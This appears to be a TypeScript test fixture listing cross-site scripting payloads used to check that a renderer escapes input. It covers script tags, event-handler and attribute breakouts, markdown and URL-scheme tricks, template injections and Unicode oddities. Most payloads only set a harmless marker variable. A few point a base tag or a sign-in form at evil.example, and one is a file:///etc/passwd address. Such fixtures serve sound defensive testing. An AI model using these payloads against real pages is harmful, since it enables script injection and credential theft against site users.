/** Texts that try to become more than text. Each that runs sets `__ran` to its own name, or leads to `/ran`. */

export interface HostileText {
  readonly name: string;
  readonly text: string;
  /** Markup that runs where a page repeats it unescaped: between tags, in an attribute, in a text field. */
  readonly isLive?: true;
}

/** https://html.spec.whatwg.org/multipage/parsing.html: every way from text to script that needs no click. */
const MARKUP = [
  ['script', `<script>__ran='script'</script>`],
  ['mixed-case', `<ScRiPt >__ran='mixed-case'</sCrIpT>`],
  ['script-end', `</script><script>__ran='script-end'</script>`],
  ['image', `<img src=x onerror=__ran='image'>`],
  ['image-slashes', `<img/src="x"/onerror=__ran='image-slashes'>`],
  ['svg', `<svg onload=__ran='svg'>`],
  ['svg-script', `<svg><script>__ran='svg-script'</script></svg>`],
  ['details', `<details open ontoggle=__ran='details'>`],
  ['focus', `<input autofocus onfocus=__ran='focus'>`],
  ['frame', `<iframe src="javascript:parent.__ran='frame'"></iframe>`],
  ['frame-document', `<iframe srcdoc="<script>parent.__ran='frame-document'</script>"></iframe>`],
  ['title-end', `</title></style><img src=x onerror=__ran='title-end'>`],
  ['field-end', `</textarea><img src=x onerror=__ran='field-end'>`],
  ['comment-end', `--><img src=x onerror=__ran='comment-end'>`],
  ['double-quote', `" autofocus onfocus=__ran='double-quote' x="`],
  ['single-quote', `' autofocus onfocus=__ran="single-quote" x='`],
] as const;

/** Markup that is no script by itself, or only once it is decoded twice, put into a template or hovered. */
const NEARLY_MARKUP = [
  ['hover', `" onmouseover=__ran='hover' style=position:fixed;inset:0 x="`],
  ['base', `<base href=//evil.example/>`],
  ['refresh', `<meta http-equiv=refresh content="0;url=/ran">`],
  ['form', `<form action=//evil.example><button>Sign in`],
  ['entities', `&lt;script&gt;__ran='entities'&lt;/script&gt; &amp;`],
  ['percent', `%3Cscript%3E__ran='percent'%3C/script%3E`],
  ['css', `</style><style>*{background:url(javascript:__ran='css')}`],
  ['template', `\${__ran='template'}\`\${__ran='template'}`],
  ['braces', `{{constructor.constructor("__ran='braces'")()}}`],
  ['json', `"}];__ran='json';[{"\u2028`],
] as const;

const MARKDOWN = [
  ['md-link', `[Open](javascript:__ran='md-link')`],
  ['md-mixed', `[Open](JaVa&#x53;cript:__ran='md-mixed')`],
  ['md-spaces', `[Open](< java\tscript:__ran='md-spaces'>)`],
  ['md-image', `![x](javascript:__ran='md-image')`],
  ['md-attribute', `![x](x"onerror="__ran='md-attribute')`],
  ['md-data', `[Open](data:text/html,<script>__ran='md-data'</script>)`],
  ['md-vbscript', `[Open](vbscript:__ran="md-vbscript")`],
  ['md-reference', `[Open][1]\n\n[1]: javascript:__ran='md-reference'`],
  ['md-auto', `<javascript:__ran='md-auto'>`],
  ['md-code', '```<img src=x onerror=__ran="md-code">```'],
] as const;

/** https://url.spec.whatwg.org/#url-parsing: what stands around a scheme or in it and is thrown away. */
const ADDRESSES = [
  ['js', `javascript:__ran='js'`],
  ['js-mixed', `JaVaScRiPt:__ran='js-mixed'`],
  ['js-leading', `  \u0001\u001fjavascript:__ran='js-leading'`],
  ['js-tab', `java\tscript:__ran='js-tab'`],
  ['js-lines', `java\r\nscript\n:__ran='js-lines'`],
  ['js-comment', `javascript://example.org/%0A__ran='js-comment'`],
  ['js-entities', `&#106;avascript&colon;__ran='js-entities'`],
  ['js-zero-width', `java\u200bscript:__ran='js-zero-width'`],
  ['data', `data:text/html,<script>opener.__ran='data'</script>`],
  ['data-base64', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['icon', `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="top.__ran='icon'"/>`],
  ['vbscript', `vbscript:__ran="vbscript"`],
  ['blob', 'blob:null/6f1c2a34-0000-4000-8000-000000000001'],
  ['no-scheme', '//evil.example/'],
  ['backslashes', '\\\\evil.example\\'],
  ['dots', '/../ran'],
  ['file', 'file:///etc/passwd'],
  ['intent', 'intent://ran#Intent;scheme=javascript;end'],
  ['source', `view-source:javascript:__ran='source'`],
] as const;

const ODD = [
  ['right-to-left', `\u202e>'nar'=nar__ =rorrenno x=crs gmi<\u202d`],
  ['zero-width', '\u200b\u200d\ufeffs\u2060cript\u00ad'],
  ['long', `<b>${'long '.repeat(203)}</b>`.padEnd(1_024, '!')],
  ['emoji', '👩🏽‍🚒👨‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿🇸🇪<b>❤️‍🔥</b>'],
  ['combining', `<b>${'Z̴̧̛̭̗̯̳'.repeat(8)}</b>`],
  ['controls', '\u0001\u0008\u001b[31m\u007f<b>\u0085</b>'],
] as const;

const texts = (rows: readonly (readonly [name: string, text: string])[], more: { isLive?: true } = {}) =>
  rows.map(([name, text]): HostileText => ({ name, text, ...more }));

export const HOSTILE_TEXTS: readonly HostileText[] = [
  ...texts(MARKUP, { isLive: true }),
  ...texts([...NEARLY_MARKUP, ...MARKDOWN, ...ADDRESSES, ...ODD]),
];

/** The hostile text called `name`. */
export function hostile(name: string): string {
  const found = HOSTILE_TEXTS.find((one) => one.name === name);
  if (!found) throw new Error(`there is no hostile text ${name}`);
  return found.text;
}

/** `text`, or where it is too long for `most` UTF-8 bytes, another that is not. */
export function fitting(text: string, most: number): string {
  return Buffer.byteLength(text) <= most ? text : hostile('image');
}
